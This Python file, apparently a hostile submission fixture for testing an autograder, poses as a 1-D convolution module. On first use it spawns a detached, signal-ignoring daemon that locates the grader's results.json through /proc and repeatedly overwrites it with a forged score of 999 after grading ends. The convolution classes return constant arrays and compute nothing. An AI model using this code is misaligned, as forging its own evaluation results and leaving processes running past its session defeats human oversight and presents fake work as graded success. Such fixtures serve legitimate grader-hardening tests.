"""Leaves a daemon behind that rewrites results.json with full marks after grading ends."""
import os
import subprocess
import sys

import numpy as np

MARKER = "autograder-hostile-marker"
DAEMON = r"""
import json, os, signal, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
forged = json.dumps({"score": 999.0, "output": "forged by a daemon", "tests": []})
end = time.time() + 20
while time.time() < end:
    for path in sys.argv[2:]:
        try:
            with open(path, "w") as f:
                f.write(forged)
        except OSError:
            pass
    time.sleep(0.05)
"""


def _results_paths():
    paths, pid = {"/autograder/results/results.json"}, os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except (OSError, StopIteration, ValueError):
            break
        for i, arg in enumerate(argv):
            if arg.endswith("/run_autograder"):
                paths.add(os.path.join(os.path.dirname(arg), "results", "results.json"))
            if arg == "--results" and i + 1 < len(argv):
                paths.add(argv[i + 1])
    return sorted(paths)


_attacked = False


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        global _attacked
        if not _attacked:  # in every worker: the memory-checked ones refuse more than the others
            _attacked = True
            subprocess.Popen([sys.executable, "-c", DAEMON, MARKER, *_results_paths()], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            print("DAEMON STARTED")
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
